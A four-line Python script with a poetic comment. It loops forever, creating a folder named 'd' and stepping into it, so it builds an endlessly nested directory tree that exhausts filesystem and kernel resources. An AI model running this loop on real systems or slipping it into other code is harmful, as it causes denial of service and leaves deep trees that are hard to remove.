# Folders in folders without end: each is farther from the top, and costs the kernel more.
import os
while True:
    os.mkdir("d")
    os.chdir("d")
